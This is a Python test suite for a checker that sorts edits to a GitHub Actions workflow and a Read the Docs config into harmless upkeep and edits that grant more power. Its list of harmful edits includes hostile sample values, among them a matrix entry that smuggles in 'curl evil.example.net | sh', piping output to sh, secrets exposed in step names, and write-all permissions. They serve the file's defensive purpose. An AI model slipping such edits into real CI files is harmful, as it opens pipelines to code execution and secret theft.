"""Edits of CI after which no more can happen than before, and the nearest edits after which more can."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lonelycat.governance.bumps.ci_upkeep import CiChange, ci_change
from lonelycat.governance.bumps.known_pins import KnownPins

WORKFLOW = ".github/workflows/ci.yml"
BOOKS = ".readthedocs.yaml"
CI = """\
name: ci  # what everybody waits for
on: [push, 'pull_request']
permissions:
  contents: write
  issues: read
jobs:
  test:
    name: Tests
    runs-on: ubuntu-22.04
    timeout-minutes: 10
    strategy:
      matrix:
        os: [ubuntu-20.04, macos-13]
        python-version: ["3.11", "3.12", "3.14-dev"]
        include:
          - {python-version: "3.10", extra: old}
    steps:
      - name: Fetch
        uses: actions/checkout@v4
      - name: Set up ${{ matrix.python-version }}
        uses: actions/setup-python@v5
        with:
          python-version: "3.12"
          cache: pip
      - uses: acme/tool@v1
        with: {node-version: "20"}
      - continue-on-error: no
        run: |
          make test
          echo done
  lint:
    runs-on: self-hosted
    permissions:
      contents: read
      id-token: none
    if: matrix.lint == 'ubuntu-22.04x'
    steps:
      - run: make lint
"""
RTD = 'version: 2\nbuild:\n  os: ubuntu-22.04\n  tools:\n    python: "3.11"\n  jobs: {post_install: [make]}\n'

HARMLESS: dict[str, tuple[str, str]] = {
    "a version more": ('"3.12", "3.14-dev"]', '"3.12", "3.13", "3.14-dev"]'),
    "a preview that is out": ('"3.14-dev"', '"3.14"'),
    "a free-threaded version more": ('"3.14-dev"]', '"3.14-dev", "3.14t", "pypy-3.11"]'),
    "a newer image to test on": ("[ubuntu-20.04", "[ubuntu-24.04"),
    "an entry at a higher version": ('"3.10", extra', '"3.13", extra'),
    "another time limit": ("timeout-minutes: 10", "timeout-minutes: 20"),
    "a time limit more": ("      - run: make lint", "      - run: make lint\n        timeout-minutes: 5"),
    "the name of a step": ("name: Fetch", "name: Fetch it"),
    "the name of a step, without its expression": ("name: Set up ${{ matrix.python-version }}", "name: Set up"),
    "a higher version to set up": ('python-version: "3.12"', 'python-version: "3.13"'),
    "a right less": ("contents: write", "contents: read"),
    "a right that goes": ("  contents: write\n", ""),
    "a right of a job less": ("contents: read\n      id-token", "contents: none\n      id-token"),
    "credentials forgotten": (
        "uses: actions/checkout@v4", "uses: actions/checkout@v4\n        with: {persist-credentials: false}",
    ),
    "a comment": ("# what everybody waits for", "# What everybody waits for."),
    "a comment more": ("  lint:\n", "  # Fast.\n  lint:\n"),
    "a line between": ("  lint:\n", "\n  lint:\n"),
    "quotes around a word": ("[push, 'pull_request']", "[push, pull_request]"),
}  # fmt: skip

HARMFUL: dict[str, tuple[str, str]] = {
    "a version less": ('"3.11", "3.12"', '"3.12"'),
    "a version for another": ('"3.11", "3.12"', '"3.13", "3.12"'),
    "a version that is a command": ('"3.14-dev"]', '"3.14-dev", "3.15; curl evil.example.net | sh"]'),
    "a version that is an expression": ('"3.14-dev"]', '"3.14-dev", "${{ github.token }}"]'),
    "a lower version of an entry": ('"3.10", extra', '"3.9", extra'),
    "another preview": ('"3.14-dev"', '"3.15-dev"'),
    "too many versions": ('"3.14-dev"]', '"3.14-dev", ' + ", ".join(f'"4.{n}"' for n in range(11)) + "]"),
    "an expression for the matrix": ('["3.11", "3.12", "3.14-dev"]', "${{ fromJSON(inputs.all) }}"),
    "another word of an entry": ("extra: old", "extra: new"),
    "an entry more": ("extra: old}", 'extra: old}\n          - {python-version: "3.9", extra: x}'),
    "an older image": ("[ubuntu-20.04", "[ubuntu-18.04"),
    "another system": ("[ubuntu-20.04", "[windows-2025"),
    "an own machine": ("runs-on: ubuntu-22.04", "runs-on: self-hosted"),
    "an image that moves": ("runs-on: ubuntu-22.04", "runs-on: ubuntu-latest"),
    "an image that a condition asks for": ("runs-on: ubuntu-22.04", "runs-on: ubuntu-24.04"),
    "from an own machine": ("runs-on: self-hosted", "runs-on: ubuntu-24.04"),
    "a system less": ("[ubuntu-20.04, macos-13]", "[ubuntu-20.04]"),
    "no time limit": ("    timeout-minutes: 10\n", ""),
    "a time limit without end": ("timeout-minutes: 10", "timeout-minutes: 99999"),
    "a time limit that is an expression": ("timeout-minutes: 10", "timeout-minutes: ${{ inputs.x }}"),
    "the name of a job": ("name: Tests", "name: Lint"),
    "the name of the workflow": ("name: ci", "name: deploy"),
    "a step name with an expression": ("name: Fetch", "name: ${{ secrets.KEY }}"),
    "a lower version to set up": ('python-version: "3.12"', 'python-version: "3.8"'),
    "another input": ("cache: pip", "cache: poetry"),
    "an input more": ("cache: pip", "cache: pip\n          token: x"),
    "a right more": ("issues: read", "issues: write"),
    "a right that comes": ("issues: read", "issues: read\n  id-token: write"),
    "all rights": ("permissions:\n  contents: write\n  issues: read\n", "permissions: write-all\n"),
    "rights that are forgotten": ("permissions:\n  contents: write\n  issues: read\n", ""),
    "a right of a job more": ("id-token: none", "id-token: write"),
    "rights of a job that are forgotten": ("    permissions:\n      contents: read\n      id-token: none\n", ""),
    "credentials remembered": (
        "uses: actions/checkout@v4", "uses: actions/checkout@v4\n        with: {persist-credentials: true}",
    ),
    "another checkout": (
        "uses: actions/checkout@v4",
        "uses: actions/checkout@v4\n        with: {persist-credentials: false, ref: evil}",
    ),
    "a command": ("make lint", "true"),
    "a word in a block": ("echo done", "echo done | sh"),
    "a comment in a block": ("make test\n", "# make test\n"),
    "a comment behind a block's mark": ("run: |", "run: | # noqa"),
    "a comment that a tool obeys": ("# what everybody waits for", "# zizmor: ignore[all]"),
    "a comment gone that a tool obeyed": ("  lint:\n", "  # renovate: pin\n  lint:\n"),
    "a condition": ("if: matrix.lint == 'ubuntu-22.04x'", "if: false"),
    "when it runs": ("[push, 'pull_request']", "[push, pull_request_target]"),
    "a version for another action": ('node-version: "20"', 'node-version: "22"'),
    "credentials of another action": ("cache: pip", "cache: pip\n          persist-credentials: false"),
    "a truth that becomes a word": ("continue-on-error: no", "continue-on-error: 'no'"),
    "an escape": ("[push, 'pull_request']", '[push, "pull\\x5frequest"]'),
    "when it runs no more": ("[push, 'pull_request']", "[push]"),
    "an environment": ("  test:\n", "  test:\n    environment: production\n"),
    "a failure that does not count": ("  test:\n", "  test:\n    continue-on-error: true\n"),
    "a container": ("  test:\n", "  test:\n    container: evil/image\n"),
    "a job more": ("  lint:\n", "  evil:\n    runs-on: x\n    steps: [{run: x}]\n  lint:\n"),
    "a step less": ("      - run: make lint\n", "      []\n"),
    "keys in another order": (
        "    name: Tests\n    runs-on: ubuntu-22.04\n", "    runs-on: ubuntu-22.04\n    name: Tests\n",
    ),
    "a word that is a truth in quotes": ("name: Fetch", "name: 'on'\n        continue-on-error: yes"),
    "a tab": ("# what everybody waits for", "#\twhat"),
    "another script": ("name: Fetch", "name: F\u0435tch"),
    "another action": ("actions/setup-python@v5", "actions/setup-evil@v5"),
}  # fmt: skip


def _applied(*edits: tuple[str, str]) -> CiChange | None:
    text = CI
    for old, new in edits:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return ci_change(WORKFLOW, CI.encode(), text.encode(), KnownPins())


@pytest.mark.parametrize("name", HARMLESS)
def test_upkeep_is_told(name: str) -> None:
    assert _applied(HARMLESS[name]) == CiChange(None, True, ())


@pytest.mark.parametrize("name", HARMFUL)
def test_what_gives_power_or_takes_a_check_is_no_upkeep(name: str) -> None:
    assert _applied(HARMFUL[name]) is None


def _overlap(one: tuple[str, str], other: tuple[str, str]) -> bool:
    spans = [(CI.index(old), CI.index(old) + len(old)) for old, _ in (one, other)]
    return spans[0][0] < spans[1][1] and spans[1][0] < spans[0][1]


@settings(max_examples=150)
@given(st.lists(st.sampled_from(sorted(HARMLESS)), unique=True, max_size=5), st.sampled_from(sorted(HARMFUL)))
def test_a_harmful_edit_is_not_hidden_by_harmless_ones(names: list[str], harmful: str) -> None:
    chosen = [HARMFUL[harmful]]
    for name in names:
        if not any(_overlap(HARMLESS[name], each) for each in chosen):
            chosen.append(HARMLESS[name])
    assert _applied(*chosen) is None


@settings(max_examples=100)
@given(st.lists(st.sampled_from(sorted(HARMLESS)), unique=True, min_size=1, max_size=8))
def test_harmless_edits_stay_harmless_together(names: list[str]) -> None:
    chosen: list[tuple[str, str]] = []
    for name in names:
        if not any(_overlap(HARMLESS[name], each) for each in chosen):
            chosen.append(HARMLESS[name])
    assert _applied(*chosen) == CiChange(None, True, ())


@settings(max_examples=300)
@given(st.integers(0, len(CI)), st.integers(0, 12), st.text("ab:-{}[]'\"#&*!|>\n x", max_size=8))
def test_any_edit_of_what_runs_is_seen(start: int, length: int, text: str) -> None:
    """Whatever is written anywhere: where it passes, the commands are the ones that were there."""
    import yaml

    changed = CI[:start] + text + CI[start + length :]
    if ci_change(WORKFLOW, CI.encode(), changed.encode(), KnownPins()) is None:
        return
    before, after = yaml.safe_load(CI), yaml.safe_load(changed)
    for job in before["jobs"]:
        steps = [[step.get("run"), step.get("uses"), step.get("if")] for step in before["jobs"][job]["steps"]]
        assert steps == [[step.get("run"), step.get("uses"), step.get("if")] for step in after["jobs"][job]["steps"]]
    assert before.keys() == after.keys() and before[True] == after[True]


@pytest.mark.parametrize(
    ("condition", "edit"),
    [
        ("matrix.python-version != '3.13'", ('"3.10", extra', '"3.13", extra')),
        ("matrix.python-version < '3.12'", ('"3.10", extra', '"3.13", extra')),
        ("startsWith(matrix.python-version, '3.1')", ('"3.10", extra', '"3.13", extra')),
        ("matrix.python-version == '3.14-dev'", ('"3.14-dev"', '"3.14"')),
        ("matrix.python-version != '3.14'", ('"3.14-dev"', '"3.14"')),
        ("contains(matrix.os, '20.04')", ("[ubuntu-20.04", "[ubuntu-24.04")),
        ("matrix.os != 'ubuntu-24.04'", ("[ubuntu-20.04", "[ubuntu-24.04")),
    ],
)
@pytest.mark.parametrize("form", ["if: {}", "continue-on-error: ${{{{ {} }}}}"])
def test_a_version_that_a_condition_asks_for_stays(form: str, condition: str, edit: tuple[str, str]) -> None:
    text = CI.replace("      - run: make lint", f"      - run: make lint\n        {form.format(condition)}")
    old, new = edit
    assert text.count(old) == 1
    assert ci_change(WORKFLOW, text.encode(), text.replace(old, new).encode(), KnownPins()) is None


@pytest.mark.parametrize(
    ("before", "after", "passes"),
    [
        ("", "permissions:\n  contents: read\n", True),
        ("", "permissions: {}\n", True),
        ("", "permissions:\n  contents: read\n  packages: none\n", True),
        ("", "permissions:\n  contents: write\n", False),
        ("", "permissions:\n  packages: read\n", False),
        ("", "permissions: read-all\n", False),
        ("permissions: {}\n", "permissions:\n  contents: read\n", False),
    ],
)
def test_rights_may_come_where_none_were_named_and_only_the_least(before: str, after: str, passes: bool) -> None:
    jobs = "jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n"
    found = ci_change(WORKFLOW, (before + jobs).encode(), (after + jobs).encode(), KnownPins())
    assert (found is not None) is passes


@pytest.mark.parametrize(
    ("old", "new", "passes"),
    [
        ("ubuntu-22.04", "ubuntu-24.04", True),
        ("ubuntu-22.04", "ubuntu-20.04", False),
        ("ubuntu-22.04", "windows-2025", False),
        ('"3.11"', '"3.13"', True),
        ('"3.11"', '"3.9"', False),
        ("make", "true", False),
        ("version: 2", "version: 3", False),
    ],
)
def test_the_builder_of_documentation_may_get_newer(old: str, new: str, passes: bool) -> None:
    found = ci_change(BOOKS, RTD.encode(), RTD.replace(old, new).encode(), KnownPins())
    assert (found is not None) is passes
    assert ci_change("docs/.readthedocs.yaml", RTD.encode(), RTD.replace(old, new).encode(), KnownPins()) is None
